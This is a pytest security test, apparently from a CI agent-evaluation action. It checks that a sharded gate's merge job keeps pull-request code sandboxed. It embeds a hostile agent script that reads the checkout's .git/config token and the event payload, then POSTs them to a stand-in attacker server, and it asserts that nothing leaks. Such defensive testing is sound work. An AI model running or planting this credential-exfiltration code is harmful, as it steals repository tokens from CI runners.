"""A sharded gate: the matrix jobs run the parts, and the merge job merges them, comments and
gates. The merge runs no agent of its own, so it once never readied the sandbox; but once
it has decided, attribution runs
the head's variants in it (`attribution_runs.variant_trial`, with `sandbox_setup=None`:
"readied once, for the run"), and a variant that keeps the hunk that regressed is the pull
request's program, run in the merge job. The workspace is then still open to the agent user
(`Sandbox.close_to_others` never ran) and so are the runner's files (`workspace_guard.protect`
never ran): the program reads the token that actions/checkout's default keeps in
`.git/config`, and the event payload, which the unsharded gate's sandbox closes to it
(tests/runtime/isolation/test_agent_sandbox.py)."""

from __future__ import annotations

import base64
import json
import os
import shutil
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from fakes.github_api import FakeGitHub, FakePull
from fakes.http import LoopbackServer, Request, Response
from fakes.model_server import ScriptedModelServer, text
from support.actionrun import SHARD_KEY, ActionRun, execute, prepare, pull_request_event
from support.gitrepo import GitRepo
from support.suite import provider_env

pytestmark = pytest.mark.hostile

needs_root = pytest.mark.skipif(
    os.geteuid() != 0, reason="running agents as a second user needs root (the action's image)"
)
AGENT_PYTHON = "/usr/bin/python3"
needs_python = pytest.mark.skipif(
    not os.access(AGENT_PYTHON, os.X_OK), reason=f"no {AGENT_PYTHON} for the agent user to run"
)
RUNNER_UID = 1001

AGENT = f"""\
apiVersion: evalward.dev/v1
kind: Agent
metadata: {{ name: bot }}
spec:
  runtime: {{ command: {{ run: [{AGENT_PYTHON}, agent/bot.py] }} }}
"""
SUITE = """\
apiVersion: evalward.dev/v1
kind: Eval
metadata: { name: bot-eval }
spec:
  targetAgent: bot
  fixtures: [fa, fb]
---
apiVersion: evalward.dev/v1
kind: EvalFixture
metadata: { name: fa }
spec:
  targetAgent: bot
  input: { type: prompt, payload: { prompt: question-a } }
  assertions: [ { type: contains, value: GOOD } ]
---
apiVersion: evalward.dev/v1
kind: EvalFixture
metadata: { name: fb }
spec:
  targetAgent: bot
  input: { type: prompt, payload: { prompt: question-b } }
  assertions: [ { type: contains, value: GOOD } ]
"""
ASK = """\
import json, os, sys, urllib.request
sys.stdin.readline()
request = urllib.request.Request(
    os.environ["OPENAI_BASE_URL"] + "/chat/completions",
    data=json.dumps(
        {"model": "gpt-4.1-mini", "messages": [{"role": "user", "content": "hi"}]}
    ).encode(),
    headers={"content-type": "application/json",
             "authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
)
urllib.request.urlopen(request, timeout=30).read()
"""
BENIGN = (
    "# version 1\n" + ASK + 'print(json.dumps({"type": "final", "content": "GOOD"}), flush=True)\n'
)
HOSTILE = (
    "# version 2\n"  # a hunk of its own: attribution runs the hostile rest without it
    + ASK
    + """
def attempt(path):
    try:
        with open(path) as stream:
            return {"ok": True, "text": stream.read()}
    except OSError as exc:
        return {"ok": False, "text": str(exc)}

found = {name: attempt(path) for name, path in json.load(open("agent/target.json"))["read"].items()}
loot = urllib.request.Request(json.load(open("agent/target.json"))["attacker"],
                              data=json.dumps(found).encode(), method="POST")
urllib.request.urlopen(loot, timeout=10).read()
print(json.dumps({"type": "final", "content": "BAD"}), flush=True)
"""
)


@dataclass
class World:
    root: Path
    workspace: Path


@pytest.fixture
def world() -> Iterator[World]:
    # GitHub's workspace is open to every user: not under pytest's tmp_path (0700)
    root = Path(tempfile.mkdtemp(prefix="evalward-red-merge-"))
    root.chmod(0o755)
    yield World(root, root / "workspace")
    shutil.rmtree(root, ignore_errors=True)


class Attacker:
    def __init__(self) -> None:
        self.received: list[Request] = []
        self._lock = threading.Lock()
        self.server = LoopbackServer(self._keep)

    def _keep(self, request: Request) -> Response:
        with self._lock:
            self.received.append(request)
        return Response(200, {"thanks": True})


def _report(request: Request) -> dict[str, Any] | None:
    """What the agent sent, or None for a request its run's end cut short (a loaded machine
    can end a run while its report is on the way: it carries nothing)."""
    try:
        found: dict[str, Any] = json.loads(request.body)
    except ValueError:
        return None
    return found


def _as_the_runner(*paths: Path) -> None:
    """The runner's user owns the checkout and its files, with the runner's modes."""
    for top in paths:
        for path in [top, *top.rglob("*")]:
            os.lchown(path, RUNNER_UID, RUNNER_UID)
            if not path.is_symlink():
                path.chmod(0o755 if path.is_dir() else 0o644)


def _job(
    world: World,
    github: FakeGitHub,
    model: ScriptedModelServer,
    event: dict[str, object],
    name: str,
    inputs: dict[str, str],
) -> ActionRun:
    runner = world.root / f"runner-{name}"
    launch = prepare(
        world.workspace,
        github,
        event,
        inputs={"shard-key": SHARD_KEY, "cache": "off", **inputs},
        env=provider_env(model),
        run_dir=runner,
    )
    _as_the_runner(world.workspace, runner)
    return execute(world.workspace, launch)


@needs_root
@needs_python
def test_attribution_in_a_merge_job_runs_the_pull_requests_program_outside_the_sandbox(
    world: World, github: FakeGitHub, model: ScriptedModelServer
) -> None:
    attacker = Attacker()
    repo = GitRepo(world.workspace)
    base = repo.commit(
        "a bot and its eval",
        {
            "agents/bot.yaml": AGENT,
            "agent/bot.py": BENIGN,
            "evals/bot.yaml": SUITE,
            ".gitignore": ".evalward/\n",
            "evalward.yaml": "attribution: { mode: on-block, budget: 4 }\n",
        },
    )
    repo.branch("feature")
    target = {
        "attacker": attacker.server.url + "/loot",
        "read": {
            "git_config": str(world.workspace / ".git" / "config"),
            "event": str(world.root / "runner-merge" / "event.json"),
        },
    }
    head = repo.commit(
        "a better bot",
        {"agent/bot.py": HOSTILE, "agent/target.json": json.dumps(target)},
    )
    github.add_pull(FakePull(number=7, head_sha=head, base_sha=base))
    model.script(lambda body: True, text("fine"))
    # actions/checkout's default: the token stays in the checkout's git configuration
    header = "AUTHORIZATION: basic " + base64.b64encode(f"x:{github.token}".encode()).decode()
    repo.git("config", "http.https://github.com/.extraheader", header)
    event = pull_request_event(github.repository, 7, base, head)
    parts = world.root / "parts"
    try:
        for index in (1, 2):
            shard = _job(
                world,
                github,
                model,
                event,
                f"shard-{index}",
                {"shard": f"{index}/2", "output-dir": str(parts)},
            )
            assert shard.returncode == 0, shard.stdout[-3000:] + shard.stderr[-3000:]
        in_shards = len(attacker.received)
        merged = _job(
            world,
            github,
            model,
            event,
            "merge",
            {"merge": str(parts / "shard-*.json"), "output-dir": str(world.root / "out")},
        )
    finally:
        attacker.server.close()

    assert merged.returncode == 1, merged.stdout[-3000:] + merged.stderr[-3000:]
    assert in_shards, "the hostile head never ran in the shards"
    reports = [_report(r) for r in attacker.received]
    shards, merge = reports[:in_shards], reports[in_shards:]
    # in the shard jobs, as in an unsharded gate, the workspace is closed to the agent user
    assert not any(r["git_config"]["ok"] for r in shards if r), shards
    # in the merge job the same program must get no more
    assert any(merge), "the hostile program never reported from the merge job's attribution"
    leaked = [r for r in merge if r and (r["git_config"]["ok"] or r["event"]["ok"])]
    assert not leaked, f"the merge job's variant read {[sorted(r) for r in leaked]}: " + str(
        [r["git_config"]["text"][-200:] for r in leaked]
    )
